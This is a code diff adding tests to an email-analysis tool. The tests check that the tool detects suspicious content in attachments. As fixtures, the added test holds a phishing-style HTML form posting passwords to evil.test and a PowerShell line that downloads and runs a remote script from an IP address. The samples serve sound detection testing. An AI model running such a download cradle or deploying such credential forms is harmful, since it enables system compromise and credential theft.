@@ -1,5 +1,8 @@
 """What lies beyond the first characters, parts or bytes."""
 
+import base64
+
+from siftwright.engine import Engine
 from siftwright.plans import detect
 from siftwright.sources import parse
 
@@ -14,3 +17,27 @@ def test_invisible_characters_after_the_preview(spark):
     ev = evidence(spark, *mails)
     got = {(r.path, r.code) for r in detect.body(ev.bodies).join(ev.messages.select("report_id", "path"), "report_id").collect()}
     assert got == {("0.eml", "TEXT_ZERO_WIDTH"), ("1.eml", "TEXT_BIDI_CONTROL"), ("3.eml", "TEXT_ZERO_WIDTH"), ("4.eml", "TEXT_BIDI_CONTROL")}
+
+
+def mail(*attachments):
+    out = b"From: a@x.test\r\nSubject: s\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nhello\r\n"
+    for name, data in attachments:
+        out += f'--b\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename="{name}"\r\nContent-Transfer-Encoding: base64\r\n\r\n'.encode() + base64.encodebytes(data).replace(b"\n", b"\r\n")
+    return out + b"--b--\r\n"
+
+
+def engine(spark, *messages):
+    return Engine(spark, spark.createDataFrame([(f"{i}.eml", m) for i, m in enumerate(messages)], "path string, content binary"))
+
+
+def test_attached_pages_documents_and_scripts_are_read(spark):
+    page = b'<html><script>x</script><meta http-equiv=refresh content="0;url=http://r.test/"><form action="http://evil.test/"><input type=password></form><a href="http://u@1.2.3.4/">https://bank.test/</a></html>'
+    pdf = b"%PDF-1.4\n1 0 obj <</Type/Annot/A<</S/URI/URI(http://pdf.test:8080/x)>>>> endobj\n%%EOF"
+    script = b"IEX (New-Object Net.WebClient).DownloadString('http://9.8.7.6/p.ps1')"
+    e = engine(spark, mail(("a.html", page), ("b.pdf", pdf), ("c.ps1", script)))
+    codes = {r.code for r in e.detected.collect()}
+    assert {"HTML_CREDENTIAL_FORM", "HTML_SCRIPT", "HTML_META_REFRESH", "URL_USERINFO", "URL_IP_HOST", "URL_NONSTANDARD_PORT"} <= codes and "URL_TEXT_MISMATCH" not in codes
+    urls = {r.url: list(r.sources) for r in e.urls.collect()}
+    assert urls["http://pdf.test:8080/x"] == ["3:pdf-uri"] and urls["http://9.8.7.6/p.ps1"] == ["4:script"] and any(x.startswith("2:") for x in urls["http://u@1.2.3.4/"])
+    values = {r.value for r in e.indicators.filter("type in ('url', 'domain', 'ipv4')").collect()}
+    assert {"http://pdf.test:8080/x", "pdf.test", "9.8.7.6", "1.2.3.4"} <= values
